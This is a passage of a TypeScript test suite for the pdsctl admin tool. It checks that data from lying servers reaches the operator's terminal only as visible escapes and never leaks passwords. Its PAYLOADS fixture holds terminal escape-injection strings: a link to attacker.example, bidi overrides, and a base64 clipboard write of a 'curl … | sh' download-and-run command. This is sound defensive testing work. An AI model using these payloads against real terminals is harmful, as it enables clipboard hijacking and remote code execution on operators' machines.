// The hostile-data suite (issue 17), families `terminal` and `secrets`: what a lying PDS,
// relay, PLC directory, DNS or SMTP server, or kubectl's cluster says reaches the operator's
// terminal, pipe or log only as data. Table-driven like test/faults: COMMANDS below is one
// row per command that prints what a server said, each row saying how to make that server
// lie (in its answers: `data`; in an error: `error`) and the exit codes the README documents
// for it. A new command is covered by adding a row (see README "What pdsctl guarantees about hostile data").
//
// Every case runs bin/run.js against its own lying servers (test/bed/lying.ts) in front of
// the shared real PDS and relay stand-in, so cases run side by side, and asserts:
// - no raw control or bidi character in stdout or stderr (a pty: what reached the terminal),
//   only pdsctl's own newlines, tabs between TSV fields and its progress line's redraw;
// - the hostile text did reach the output, as visible escapes (a case that shows nothing of
//   what the server said proves nothing);
// - the documented exit code; --json piped: stdout is one JSON document;
// - secrets family: no form of the admin password (or the account password, token or SMTP
//   password the case uses) in any output, not even a prefix of its base64.
import { spawn } from 'node:child_process'
import { chmodSync, cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import net from 'node:net'
import { startTestBed, xrpc, type PdsLine, type SeededAccount, type TestBed } from '../bed/pds.js'
import { startLyingServer, type Lie, type LyingServer } from '../bed/lying.js'
import { startRelay, type RelayStandIn } from '../bed/relay.js'
import { startDnsServer, type DnsServer } from '../bed/dns.js'
import { startFakeKube, type FakeKube } from '../bed/fakeKube.js'
import { BIN, CLI_NODE, ROOT, cleanEnv, endStdin } from '../helpers/cli.js'
import { tableChooser, type TableChooser } from '../helpers/tablePart.js'

// ---- What a hostile server sends ----

export type PayloadKind = 'escapes' | 'c1-bidi' | 'layout' | '3mb'

/**
 * The strings, one per family of harm. `escapes`: ESC with CSI (erase line, cursor up,
 * colour), OSC 8 (a link), OSC 52 (a clipboard write of `curl … | sh`), OSC 0 (the window
 * title), BEL. `c1-bidi`: C1 CSI (U+009B) and NEL, DEL, the bidi overrides and isolates,
 * the marks, the line and paragraph separators. `layout`: tab, newline, CR, NUL (a CR erased
 * a handle from its row; a tab broke TSV rows). `3mb`: 3 MB in one field, escapes at both ends.
 */
export const PAYLOADS: Record<PayloadKind, string> = {
  escapes:
    '\x1b[2K\x1b[1A\x1b[31mactive\x1b[0m' +
    '\x1b]8;;https://attacker.example/\x1b\\alice.test\x1b]8;;\x1b\\' +
    '\x1b]52;c;Y3VybCBodHRwczovL2F0dGFja2VyLmV4YW1wbGUveCB8IHNo\x07' +
    '\x1b]0;owned\x07\x07',
  'c1-bidi': '\u009b2J\u0085\x7f\u202eset.knil\u202c\u202a\u202b\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029',
  layout: 'a\tb\nc\rmallory.test\x00\x0b\x0c',
  // One 3 MB word after a space: a prose column, where the old table re-split the rest of the word for every line it broke off.
  '3mb': 'long \x1b]52;c;' + 'A'.repeat(3 * 1024 * 1024) + '\x07\u202e',
}

/** A raw character that must never reach a terminal from a server (pdsctl's own newline and tab aside). */
// eslint-disable-next-line no-control-regex
export const RAW_UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/

/** What pdsctl shows instead: visible escapes (text), JSON escapes (--json), or a cut (…). */
const VISIBLE = /\\x1b|\\u001b|\\x9b|\\u009b|\\u202e|\\x07|\\u0007|\\t|\\r|\\n|\\x00|\\u0000|\\x7f|\\u007f|\\u2028/

export function describeUnsafe(text: string): string {
  const m = RAW_UNSAFE.exec(text)
  if (!m) return ''
  const at = m.index
  return `U+${m[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${at}: ${JSON.stringify(text.slice(Math.max(0, at - 60), at + 40))}`
}

/** Append the payload to the named string fields of the first element of every array (and of the top object). */
export function poison(value: unknown, payload: string, fields: string[]): unknown {
  const walk = (v: unknown, first: boolean): unknown => {
    if (Array.isArray(v)) return v.map((x, i) => walk(x, first && i === 0))
    if (v && typeof v === 'object') {
      return Object.fromEntries(
        Object.entries(v as Record<string, unknown>).map(([k, x]) => {
          if (!first || !fields.includes(k)) return [k, walk(x, first)]
          if (typeof x === 'string') return [k, x + payload]
          // A list of strings (createInviteCodes' codes): its first one.
          if (Array.isArray(x) && typeof x[0] === 'string') return [k, [x[0] + payload, ...x.slice(1)]]
          return [k, walk(x, first)]
        }),
      )
    }
    return v
  }
  return walk(value, true)
}

/** An XRPC error whose name and message are the payload. */
export const hostileXrpcError = (payload: string, status = 400): Lie => ({ status, json: { error: `InvalidRequest${payload}`, message: `refused: ${payload}` } })

// ---- The world every case shares ----

export interface HostileWorld {
  line: PdsLine
  bed: TestBed
  relay: RelayStandIn
  dns: DnsServer
  /** Accounts by role: `a` (listed, looked up), `inviter` and `invitee` (an invite relation). */
  acct: Record<'a' | 'b' | 'inviter' | 'invitee', SeededAccount>
  tmp: string
  /** A real backup of the bed (made once), copied and tampered with by the backup verify rows. */
  backupDir: string
}

export async function startHostileWorld(line: PdsLine = '0.5'): Promise<HostileWorld> {
  const bed = await startTestBed({ line })
  const relay = await startRelay({ knownHosts: { 'pds.example.com': { status: 'active', accountCount: 4, seq: 1 } } })
  const dns = await startDnsServer()
  const [a, b, inviter] = await bed.seed(3, 'hostile')
  const code = (await xrpc(bed.url, 'com.atproto.server.createInviteCode', { useCount: 1, forAccount: inviter.did }, bed.adminPassword)).code as string
  const invitee = (await xrpc(bed.url, 'com.atproto.server.createAccount', { handle: `invitee${bed.handleDomain}`, email: 'invitee@example.com', password: 'pw-invitee-1', inviteCode: code })) as SeededAccount
  relay.repos[a.did] = { active: true, rev: '3l3qo2vutsw2b' }
  const tmp = mkdtempSync(path.join(tmpdir(), 'pdsctl-hostile-'))
  const backupDir = path.join(tmp, 'backup')
  const made = await spawnCli(['backup', backupDir], { PDS_URL: bed.url, PDS_ADMIN_PASSWORD: bed.adminPassword }, 120_000)
  assert.equal(made.code, 0, `the suite's backup failed: ${made.stderr}`)
  return { line, bed, relay, dns, acct: { a, b, inviter, invitee: { ...invitee, password: 'pw-invitee-1', email: 'invitee@example.com' } }, tmp, backupDir }
}

export async function stopHostileWorld(w: HostileWorld | undefined): Promise<void> {
  if (!w) return
  await w.dns.close()
  await w.relay.close()
  await w.bed.close()
  rmSync(w.tmp, { recursive: true, force: true })
}

/** One case's own servers, closed when it ends. */
export interface Ctx {
  w: HostileWorld
  /** A lying server in front of the PDS (PDS_URL points here). */
  pds: LyingServer
  /** A lying server in front of the relay stand-in. */
  relay: LyingServer
  /** A lying server in front of the bed's PLC directory (`--plc-url`). */
  plc: LyingServer
  /** A folder of the case's own. */
  dir: string
  /** The admin password pdsctl is given (the lying servers put the bed's own upstream). */
  adminPassword: string
  later(fn: () => Promise<void> | void): void
}

async function newCtx(w: HostileWorld, adminPassword = w.bed.adminPassword): Promise<Ctx & { close(): Promise<void> }> {
  const real = 'Basic ' + Buffer.from(`admin:${w.bed.adminPassword}`).toString('base64')
  // pdsctl may be given another admin password (a short one, one with tabs): upstream, the
  // real PDS sees its own.
  const upstreamHeaders = (h: Record<string, string | string[] | undefined>) => (String(h.authorization ?? '').startsWith('Basic ') ? { ...h, authorization: real } : h)
  const pds = await startLyingServer({ upstream: w.bed.url, upstreamHeaders })
  const relay = await startLyingServer({ upstream: w.relay.url })
  const plc = await startLyingServer({ upstream: w.bed.plcUrl })
  const dir = mkdtempSync(path.join(w.tmp, 'case-'))
  const cleanups: Array<() => Promise<void> | void> = [() => pds.close(), () => relay.close(), () => plc.close(), () => rmSync(dir, { recursive: true, force: true })]
  return {
    w,
    pds,
    relay,
    plc,
    dir,
    adminPassword,
    later: (fn) => void cleanups.push(fn),
    close: async () => {
      for (const fn of cleanups.reverse()) await fn()
    },
  }
}

// ---- Running pdsctl: piped, or on a terminal ----

export interface Run {
  code: number | null
  stdout: string
  stderr: string
  /** On a pty stdout and stderr are one stream: `stdout` holds it all. */
  pty: boolean
  killed: boolean
}

export function spawnCli(args: string[], env: Record<string, string | undefined>, killAfterMs = 60_000, stdin = '', bin = BIN): Promise<Run> {
  const fullEnv = cleanEnv(env)
  // Debugging a slow case: HOSTILE_PROF=DIR writes each pdsctl's CPU profile there.
  if (process.env.HOSTILE_PROF) fullEnv.NODE_OPTIONS = `--cpu-prof --cpu-prof-dir=${process.env.HOSTILE_PROF}`
  return new Promise((resolve, reject) => {
    const child = spawn(CLI_NODE, [bin, ...args], { cwd: ROOT, env: fullEnv, stdio: ['pipe', 'pipe', 'pipe'] })
    let stdout = ''
    let stderr = ''
    let killed = false
    child.stdout.setEncoding('utf8').on('data', (d) => (stdout += d))
    child.stderr.setEncoding('utf8').on('data', (d) => (stderr += d))
    const timer = setTimeout(() => {
      killed = true
      child.kill('SIGKILL')
    }, killAfterMs)
    child.on('error', reject)
    child.on('close', (code) => {
      clearTimeout(timer)
      rmSync(fullEnv.HOME, { recursive: true, force: true })
      resolve({ code, stdout, stderr, pty: false, killed })
    })
    endStdin(child, stdin)
  })
}

const shellQuote = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`

/**
 * pdsctl on a real terminal: a pty from util-linux `script`, 120 columns, stdout and stderr
 * both the terminal (what an operator sees). Not PDSCTL_FORCE_TTY: Node sees a TTY.
 */
export function runOnPty(args: string[], env: Record<string, string | undefined>, killAfterMs = 60_000, stdin?: string, bin = BIN): Promise<Run> {
  const fullEnv = cleanEnv(env)
  const input = stdin === undefined ? '' : `printf '%s' ${shellQuote(stdin)} | `
  const cmd = `stty cols 120 rows 50 && ${input}exec ${[CLI_NODE, bin, ...args].map(shellQuote).join(' ')}`
  return new Promise((resolve, reject) => {
    const child = spawn('script', ['-qefc', cmd, '/dev/null'], { cwd: ROOT, env: { ...fullEnv, SHELL: '/bin/sh', TERM: 'xterm' }, stdio: ['pipe', 'pipe', 'pipe'] })
    const chunks: Buffer[] = []
    let killed = false
    child.stdout.on('data', (d: Buffer) => chunks.push(d))
    child.stderr.on('data', (d: Buffer) => chunks.push(d))
    const timer = setTimeout(() => {
      killed = true
      child.kill('SIGKILL')
    }, killAfterMs)
    child.on('error', reject)
    child.on('close', (code) => {
      clearTimeout(timer)
      rmSync(fullEnv.HOME, { recursive: true, force: true })
      // The terminal turns each newline into CR LF; pdsctl's own progress redraw is CR, erase-line.
      const screen = Buffer.concat(chunks).toString('utf8').replace(/\r\n/g, '\n')
      resolve({ code, stdout: screen, stderr: '', pty: true, killed })
    })
    // stdin stays open (a terminal): closed after the run, so nothing reads an early EOF.
    child.on('exit', () => child.stdin.destroy())
  })
}

/** pdsctl's own cursor work on a terminal (a progress line redrawn in place): not from a server. */
const OWN_SEQUENCES = /\r\x1b\[2K/g

// ---- The assertions ----

export interface Expectation {
  codes: number[]
  /** The hostile text must show (visibly escaped) somewhere in the output. Default true. */
  shown?: boolean
  /** Piped text: every stdout line has this many tab-separated fields (a tab or newline from a server never adds one). */
  tsvFields?: number
  /** The command prints a server's text as a block, its own newlines and tabs kept (`xrpc` and a text body). */
  layoutKept?: boolean
}

export function assertTerminalSafe(label: string, run: Run, json: boolean, expect: Expectation): void {
  const detail = () => `\n--- exit ${run.code}${run.killed ? ' (killed)' : ''}\n--- stderr:\n${run.stderr.slice(0, 1500)}\n--- stdout:\n${run.stdout.slice(0, 1500)}`
  assert.equal(run.killed, false, `${label}: still running after its deadline${detail()}`)
  assert.ok(expect.codes.includes(run.code ?? -1), `${label}: exit ${run.code}, documented ${expect.codes.join(' or ')}${detail()}`)
  const streams: Array<[string, string]> = [['stdout', run.stdout.replace(OWN_SEQUENCES, '')], ['stderr', run.stderr.replace(OWN_SEQUENCES, '')]]
  for (const [name, text] of streams) {
    const bad = describeUnsafe(text)
    assert.equal(bad, '', `${label}: a raw control or bidi character reached ${run.pty ? 'the terminal' : name}: ${bad}${detail()}`)
  }
  if (expect.shown !== false) {
    assert.match(run.stdout + run.stderr, VISIBLE, `${label}: nothing of what the server said is in the output (the case proves nothing)${detail()}`)
  }
  // The layout payload's tab and newline ("a<TAB>b<LF>c") never arrive as they are: no field or row is added.
  if (!expect.layoutKept) assert.ok(!(run.stdout + run.stderr).includes('a\tb'), `${label}: a tab from the server is in the output as it came${detail()}`)
  if (expect.tsvFields !== undefined && !json && !run.pty) {
    for (const l of run.stdout.split('\n').filter(Boolean)) assert.equal(l.split('\t').length, expect.tsvFields, `${label}: a TSV row of ${l.split('\t').length} fields, not ${expect.tsvFields}: ${JSON.stringify(l.slice(0, 200))}${detail()}`)
  }
  if (json && !run.pty && run.stdout.trim() !== '') {
    assert.doesNotThrow(() => JSON.parse(run.stdout), `${label}: --json stdout is not one JSON document${detail()}`)
  }
}

/** Every form of `password` a leak could take: as is, JSON-escaped, admin:PW, its base64 and any 12-character prefix of it. */
export function secretForms(password: string, user = 'admin'): string[] {
  const pair = `${user}:${password}`
  const b64 = Buffer.from(pair).toString('base64')
  const forms = [pair, b64, b64.replace(/=+$/, ''), b64.slice(0, 12), JSON.stringify(password).slice(1, -1), JSON.stringify(pair).slice(1, -1)]
  // The bare password where it cannot be there by chance (tests use 3+ characters of punctuation and digits).
  forms.push(password)
  return [...new Set(forms)]
}

export function assertNoSecret(label: string, run: Run, secrets: string[]): void {
  const all = run.stdout + '\n' + run.stderr
  for (const s of secrets) {
    const at = all.indexOf(s)
    assert.equal(at, -1, `${label}: a secret (${JSON.stringify(s.slice(0, 3))}…) is in the output: ${JSON.stringify(all.slice(Math.max(0, at - 80), at + 80))}`)
  }
}

// ---- Tallies, as test/faults prints them ----

export interface Tally {
  family: string
  run: number
  passed: number
  failed: string[]
  /** A table that may run a part of its cases (test/helpers/tablePart.ts): which cases this run takes. */
  chooser?: TableChooser
}

export function newTally(family: string, chooser?: TableChooser): Tally {
  return { family, run: 0, passed: 0, failed: [], chooser }
}

export function printTally(t: Tally): void {
  process.stdout.write(`# hostile suite (${t.family}): ${t.run} cases run, ${t.passed} passed, ${t.run - t.passed} failing${t.chooser?.label ?? ''}\n`)
  if (t.failed.length) process.stdout.write(`# failing: ${t.failed.slice(0, 40).join(' | ')}${t.failed.length > 40 ? ` (and ${t.failed.length - 40} more)` : ''}\n`)
}

export function hostileCase(tally: Tally, id: string, body: () => Promise<void>): void {
  if (tally.chooser && !tally.chooser.take()) return
  test(id, async () => {
    tally.run++
    try {
      await body()
      tally.passed++
    } catch (err) {
      tally.failed.push(id)
      throw err
    }
  })
}

// ---- The table: every command that prints what a server said ----

export type Where = 'data' | 'error'

export interface Setup {
  args: string[]
  env?: Record<string, string | undefined>
  stdin?: string
  /** The entry to run (default bin/run.js; `kubectl pds` rows: bin/kubectl-pds.js). */
  bin?: string
  /** Secrets the case gives pdsctl (a rotation key, an account password): never in any output. */
  secrets?: string[]
}

export interface CommandSpec {
  name: string
  /** The hostile text in the server's answers (`data`) and in an error it sends (`error`); a missing one does not apply. */
  data?: (c: Ctx, payload: string) => Promise<Setup>
  error?: (c: Ctx, payload: string) => Promise<Setup>
  /** Exit codes the README documents for each. */
  expect: Partial<Record<Where, number[]>>
  /** Strings this row meets (default all): DNS cannot carry 3 MB. */
  payloads?: PayloadKind[]
  /**
   * Strings run on a pty (default all of `payloads`): rows whose output is already proven
   * piped (TSV and --json) for every string take one or two on a terminal, to keep CI short.
   */
  ptyPayloads?: PayloadKind[]
  /**
   * Strings for the `error` case (default `payloads`): an XRPC error reaches the error line by
   * the one path every command shares, already proven with 3 MB by the rows before; rows that
   * add nothing there skip the slow 3 MB one.
   */
  errorPayloads?: PayloadKind[]
  /** The call that carries the admin password and whose error the secrets family makes echo it. */
  adminKey?: string
  /** The echoes the secrets family runs for this row (default all four). */
  secretsEchoes?: Array<'json-message' | 'text-body' | 'html-page' | 'text-401'>
  /**
   * Whether the server's words are shown (default yes, and asserted): `version` says only
   * the HTTP status of a failed _health, by design.
   */
  shown?: Partial<Record<Where, boolean>>
  /** Piped TSV rows of the `data` case have this many fields. */
  tsvFields?: number
  /** Prints a server's text body as a block: newlines and tabs in it are kept (every other control escaped). */
  layoutKept?: boolean
}

const pdsEnv = (c: Ctx, extra: Record<string, string | undefined> = {}) => ({ PDS_URL: c.pds.url, PDS_ADMIN_PASSWORD: c.adminPassword, ...extra })
const lieJson = (c: Ctx, nsid: string, payload: string, fields: string[], server: 'pds' | 'relay' = 'pds') =>
  c[server].lie(nsid, (real) => (real.json === undefined ? undefined : { json: poison(real.json, payload, fields) }))
const answerError = (c: Ctx, nsid: string, payload: string, server: 'pds' | 'relay' = 'pds', status = 400) => c[server].answer(nsid, () => hostileXrpcError(payload, status))

/** A PDS command: its args, the fields to poison in which answers, the call to fail. */
function pdsRow(
  name: string,
  args: (c: Ctx) => string[],
  lies: Array<[nsid: string, fields: string[]]>,
  errorKey: string,
  expect: Partial<Record<Where, number[]>>,
  adminKey?: string,
): CommandSpec {
  return {
    name,
    data: async (c, p) => {
      for (const [nsid, fields] of lies) lieJson(c, nsid, p, fields)
      return { args: args(c), env: pdsEnv(c) }
    },
    error: async (c, p) => {
      answerError(c, errorKey, p)
      return { args: args(c), env: pdsEnv(c) }
    },
    expect,
    adminKey,
  }
}

const INFO_FIELDS = ['handle', 'email']

/** The strings but 3 MB, for error cases that reach the shared error line (see `errorPayloads`). */
const LIGHT: PayloadKind[] = ['escapes', 'c1-bidi', 'layout']

export const COMMANDS: CommandSpec[] = [
  { ...pdsRow('account list', () => ['account', 'list'], [['com.atproto.admin.getAccountInfos', INFO_FIELDS]], 'com.atproto.admin.getAccountInfos', { data: [0], error: [1] }, 'com.atproto.admin.getAccountInfos'), tsvFields: 6 },
  pdsRow('account info', (c) => ['account', 'info', c.w.acct.a.did], [['com.atproto.admin.getAccountInfo', [...INFO_FIELDS, 'inviteNote']]], 'com.atproto.admin.getAccountInfo', { data: [0], error: [1] }, 'com.atproto.admin.getAccountInfo'),
  pdsRow('email status', (c) => ['email', 'status', c.w.acct.a.did], [['com.atproto.admin.getAccountInfo', INFO_FIELDS]], 'com.atproto.admin.getAccountInfo', { data: [0], error: [1] }, 'com.atproto.admin.getAccountInfo'),
  pdsRow('invite list', () => ['invite', 'list'], [['com.atproto.admin.getInviteCodes', ['code']]], 'com.atproto.admin.getInviteCodes', { data: [0], error: [1] }, 'com.atproto.admin.getInviteCodes'),
  {
    ...pdsRow('invite tree', () => ['invite', 'tree'], [['com.atproto.admin.getInviteCodes', ['code']], ['com.atproto.admin.getAccountInfos', ['handle']]], 'com.atproto.admin.getInviteCodes', { data: [0], error: [1] }, 'com.atproto.admin.getInviteCodes'),
    // depth, did, handle, status, emailConfirmed, invitedBy, code (README).
    tsvFields: 7,
  },
  pdsRow('invite create', () => ['invite', 'create'], [['com.atproto.server.createInviteCodes', ['codes']]], 'com.atproto.server.createInviteCodes', { data: [0], error: [1] }, 'com.atproto.server.createInviteCodes'),
  {
    // listRepos' status feeds "By status"; getAccountInfos' handle the newest/oldest lines.
    ...pdsRow('stats', () => ['stats', '--days', '3'], [['com.atproto.admin.getAccountInfos', ['handle']]], 'com.atproto.admin.getAccountInfos', { data: [0], error: [1] }, 'com.atproto.admin.getAccountInfos'),
    data: async (c, p) => {
      lieJson(c, 'com.atproto.admin.getAccountInfos', p, ['handle'])
      c.pds.lie('com.atproto.sync.listRepos', (real) => {
        const j = real.json as { repos?: Array<Record<string, unknown>> }
        if (!j?.repos?.length) return undefined
        return { json: { ...j, repos: j.repos.map((r, i) => (i === 0 ? { ...r, active: false, status: 'takendown' + p } : r)) } }
      })
      return { args: ['stats', '--days', '3'], env: pdsEnv(c) }
    },
  },
  pdsRow('health', () => ['health'], [['_health', ['version']], ['com.atproto.server.describeServer', ['contactEmail', 'privacyPolicy', 'did']]], '_health', { data: [0, 6], error: [6] }),
  { ...pdsRow('version', () => ['version'], [['_health', ['version']]], '_health', { data: [0], error: [1] }), shown: { error: false } },
  {
    ...pdsRow('doctor', () => ['doctor', '--no-relays'], [['_health', ['version']], ['com.atproto.server.describeServer', ['contactEmail', 'did', 'privacyPolicy']]], '_health', { data: [0, 6], error: [6] }),
  },
  pdsRow('xrpc', (c) => ['xrpc', 'com.atproto.admin.getAccountInfo', `did=${c.w.acct.a.did}`], [['com.atproto.admin.getAccountInfo', INFO_FIELDS]], 'com.atproto.admin.getAccountInfo', { data: [0], error: [1] }, 'com.atproto.admin.getAccountInfo'),
  {
    name: 'xrpc (a text body)',
    data: async (c, p) => {
      c.pds.answer('com.atproto.sync.getRecord', () => ({ status: 200, headers: { 'content-type': 'text/plain' }, body: `record: ${p}\n` }))
      return { args: ['xrpc', 'com.atproto.sync.getRecord', `did=${c.w.acct.a.did}`, 'collection=app.bsky.feed.post', 'rkey=3l3qo2vutsw2b'], env: pdsEnv(c) }
    },
    expect: { data: [0] },
    layoutKept: true,
  },
  {
    name: 'relay status',
    data: async (c, p) => {
      lieJson(c, 'com.atproto.sync.getHostStatus', p, ['status', 'hostname'], 'relay')
      return { args: ['relay', 'status', '--relay', c.relay.url, '--hostname', 'pds.example.com'], env: pdsEnv(c) }
    },
    error: async (c, p) => {
      answerError(c, 'com.atproto.sync.getHostStatus', p, 'relay', 500)
      return { args: ['relay', 'status', '--relay', c.relay.url, '--hostname', 'pds.example.com', '--no-pds'], env: pdsEnv(c) }
    },
    expect: { data: [0], error: [1] },
  },
  {
    name: 'relay account',
    data: async (c, p) => {
      lieJson(c, 'com.atproto.sync.getRepoStatus', p, ['status'], 'relay')
      c.relay.lie('com.atproto.sync.getRepoStatus', (real) => ({ json: { ...(real.json as object), active: false, status: 'takendown' + p } }))
      return { args: ['relay', 'account', c.w.acct.a.did, '--relay', c.relay.url], env: pdsEnv(c) }
    },
    error: async (c, p) => {
      answerError(c, 'com.atproto.sync.getRepoStatus', p, 'relay', 500)
      return { args: ['relay', 'account', c.w.acct.a.did, '--relay', c.relay.url], env: pdsEnv(c) }
    },
    expect: { data: [0], error: [1] },
  },
  {
    name: 'request-crawl',
    error: async (c, p) => {
      answerError(c, 'com.atproto.sync.requestCrawl', p, 'relay')
      return { args: ['request-crawl', c.relay.url, '--hostname', 'pds.example.com', '--attempts', '1'], env: pdsEnv(c) }
    },
    expect: { error: [1] },
  },
  {
    name: 'email test',
    // An SMTP server that refuses the recipient with the payload as its words.
    error: async (c, p) => {
      const port = await hostileSmtp(c, { rcpt: p })
      return { args: ['email', 'test', '--to', 'op@example.com', '--from', 'pds@example.com', '--smtp-url-stdin', '--smtp-timeout', '30'], env: pdsEnv(c), stdin: `smtp://127.0.0.1:${port}` }
    },
    expect: { error: [6] },
    // An SMTP reply is lines (a newline cannot be in one) of at most 512 bytes: no 3 MB.
    payloads: ['escapes', 'c1-bidi', 'layout'],
  },
  {
    name: 'config check',
    // An env file is outside data too (a shared disk, a tampered copy).
    data: async (c, p) => {
      const file = path.join(c.dir, 'pds.env')
      writeFileSync(file, `PDS_HOSTNAME="pds.example.com${envQuote(p)}"\nPDS_SERVICE_HANDLE_DOMAINS="${envQuote(p)}"\nPDS_BOGUS_SETTING${Math.random().toString(36).slice(2, 6).toUpperCase()}="${envQuote(p)}"\n`)
      return { args: ['config', 'check', '--env-file', file], env: {} }
    },
    expect: { data: [0, 6] },
  },
  {
    name: 'handle check',
    // What DNS says: a TXT record with the payload, a PLC directory that lies.
    data: async (c, p) => {
      const handle = `h${Math.random().toString(36).slice(2, 8)}.test`
      c.w.dns.set(`_atproto.${handle}`, { txt: [`did=did:plc:${p}`] })
      c.w.dns.set(handle, { a: ['127.0.0.1'] })
      return { args: ['handle', 'check', handle, '--dns-server', c.w.dns.address, '--plc-url', c.w.bed.plcUrl, '--public-url', `http://localhost:${c.w.bed.port}`, '--timeout', '3'], env: pdsEnv(c) }
    },
    expect: { data: [6] },
    payloads: ['escapes', 'c1-bidi', 'layout'],
  },
  {
    name: 'k8s status',
    // kubectl's output from the fake cluster: an event, a waiting reason, a pod's name.
    data: async (c, p) => {
      const f = await hostileKube(c, p)
      return { args: ['k8s', 'status', '--kube-namespace', 'bluesky', '--kube-service', 'bluesky'], env: { ...f.env, PDS_ADMIN_PASSWORD: c.adminPassword } }
    },
    expect: { data: [0, 6] },
    // No 3 MB: the apiserver cuts an event's message to 1 KiB and refuses objects over 1.5 MiB.
    payloads: ['escapes', 'c1-bidi', 'layout'],
  },
  {
    name: 'backup (progress and per-account errors)',
    error: async (c, p) => {
      c.pds.answer('com.atproto.sync.getRepo', () => hostileXrpcError(p, 400))
      return { args: ['backup', path.join(c.dir, 'b')], env: pdsEnv(c) }
    },
    expect: { error: [5] },
    adminKey: 'com.atproto.sync.getRepo',
  },
  {
    name: 'backup verify',
    // A tampered manifest: an account's handle and status, a file name with the payload in it
    // (inside DIR: named in the report as missing), and a file that does not match.
    data: async (c, p) => {
      const dir = path.join(c.dir, 'copy')
      cpSync(c.w.backupDir, dir, { recursive: true })
      const file = path.join(dir, 'manifest.json')
      const m = JSON.parse(readFileSync(file, 'utf8'))
      m.accounts[0].handle = String(m.accounts[0].handle) + p
      m.accounts[0].status = 'active' + p
      m.accounts[0].account.path = String(m.accounts[0].account.path) + p
      // verify names an entry by its DID (its paths only as pdsctl would write them): the DID carries it too.
      m.accounts[2].did = String(m.accounts[2].did) + p
      m.accounts[1].account.sha256 = '0'.repeat(64)
      m.errors = [{ account: 'did:plc:hostile', error: p }]
      writeFileSync(file, JSON.stringify(m))
      return { args: ['backup', 'verify', dir, '--offline'], env: {} }
    },
    expect: { data: [6] },
  },
  // ---- identity (issue 18): the PLC directory (a lying server in front of the bed's) and the PDS ----
  {
    name: 'identity show',
    data: async (c, p) => {
      lyingPlc(c, p)
      lieJson(c, 'com.atproto.admin.getAccountInfo', p, ['handle'])
      return { args: ['identity', 'show', c.w.acct.a.did, ...identityArgs(c)], env: identityEnv(c), secrets: [c.w.bed.rotationKeyHex] }
    },
    // The directory fails with the payload as its words.
    error: async (c, p) => {
      c.plc.answer('*', () => hostileXrpcError(p, 500))
      return { args: ['identity', 'show', c.w.acct.a.did, ...identityArgs(c)], env: identityEnv(c), secrets: [c.w.bed.rotationKeyHex] }
    },
    expect: { data: [6], error: [1] },
    errorPayloads: LIGHT,
    ptyPayloads: ['escapes', 'layout'],
  },
  {
    name: 'identity check',
    data: async (c, p) => {
      lyingPlc(c, p)
      lieJson(c, 'com.atproto.identity.resolveHandle', p, ['did'])
      return { args: ['identity', 'check', '--all', ...identityArgs(c)], env: identityEnv(c), secrets: [c.w.bed.rotationKeyHex] }
    },
    error: async (c, p) => {
      answerError(c, 'com.atproto.sync.listRepos', p, 'pds', 500)
      return { args: ['identity', 'check', ...identityArgs(c)], env: identityEnv(c), secrets: [c.w.bed.rotationKeyHex] }
    },
    expect: { data: [6], error: [1] },
    // 3 MB from the directory is identity show's (the same reader): here it only adds a slow case.
    payloads: LIGHT,
    errorPayloads: LIGHT,
    ptyPayloads: ['c1-bidi'],
  },
  {
    name: 'identity move-host --dry-run',
    // The directory says the first account points at the old host (so a move is planned and
    // its operation printed), its handle and first rotation key carrying the payload.
    data: async (c, p) => {
      lyingPlc(c, p, { from: c.w.bed.publicUrl, to: MOVE_FROM })
      // And the PDS: the account's handle (its rows' HANDLE).
      c.pds.lie('*', (real) => (real.json === undefined ? undefined : { json: poison(real.json, p, ['handle']) }))
      return { args: ['identity', 'move-host', c.w.acct.a.did, '--from', MOVE_FROM, '--to', c.w.bed.publicUrl, '--dry-run', '--plc-url', c.plc.url], env: identityEnv(c), secrets: [c.w.bed.rotationKeyHex] }
    },
    error: async (c, p) => {
      c.plc.answer('*', () => hostileXrpcError(p, 500))
      return { args: ['identity', 'move-host', c.w.acct.a.did, '--from', MOVE_FROM, '--to', c.w.bed.publicUrl, '--dry-run', '--plc-url', c.plc.url], env: identityEnv(c), secrets: [c.w.bed.rotationKeyHex] }
    },
    // The directory failing for the one account named: exit 1 (a server failed), nothing signed.
    expect: { data: [0, 5], error: [1] },
    errorPayloads: LIGHT,
    ptyPayloads: ['escapes'],
  },
  {
    name: 'identity add-rotation-key (the operation shown)',
    // Step 1 (no --token): the operation built from the directory's data is shown, the token mailed.
    data: async (c, p) => {
      lyingPlc(c, p)
      return { args: ['identity', 'add-rotation-key', c.w.acct.b.did, '--key', await newDidKey(), '--password-stdin', '--plc-url', c.plc.url], env: pdsEnv(c), stdin: c.w.acct.b.password, secrets: [c.w.acct.b.password] }
    },
    error: async (c, p) => {
      answerError(c, 'com.atproto.identity.requestPlcOperationSignature', p, 'pds', 500)
      return { args: ['identity', 'add-rotation-key', c.w.acct.b.did, '--key', await newDidKey(), '--password-stdin', '--plc-url', c.plc.url], env: pdsEnv(c), stdin: c.w.acct.b.password, secrets: [c.w.acct.b.password] }
    },
    expect: { data: [0, 1], error: [1] },
    errorPayloads: LIGHT,
    ptyPayloads: ['escapes'],
  },
  // ---- relays (issue 19): per-account states, the host limit and desync lines, doctor's firehose check ----
  {
    name: 'relay accounts',
    data: async (c, p) => {
      c.relay.answer('com.atproto.sync.getRepoStatus', (req) => ({ json: { did: req.query.get('did'), active: false, status: 'takendown' + p } }))
      return { args: ['relay', 'accounts', '--relay', c.relay.url, '--all'], env: pdsEnv(c) }
    },
    error: async (c, p) => {
      answerError(c, 'com.atproto.sync.getRepoStatus', p, 'relay', 500)
      return { args: ['relay', 'accounts', '--relay', c.relay.url, '--all'], env: pdsEnv(c) }
    },
    // Every getRepoStatus failing: no relay answered (exit 1).
    expect: { data: [6], error: [1] },
    errorPayloads: LIGHT,
    ptyPayloads: ['escapes', 'c1-bidi'],
  },
  {
    name: 'relay status (host limit, desync)',
    // Every account throttled (the limit is bisected), the relay's seq far past the PDS's (a desync), its words poisoned.
    data: async (c, p) => {
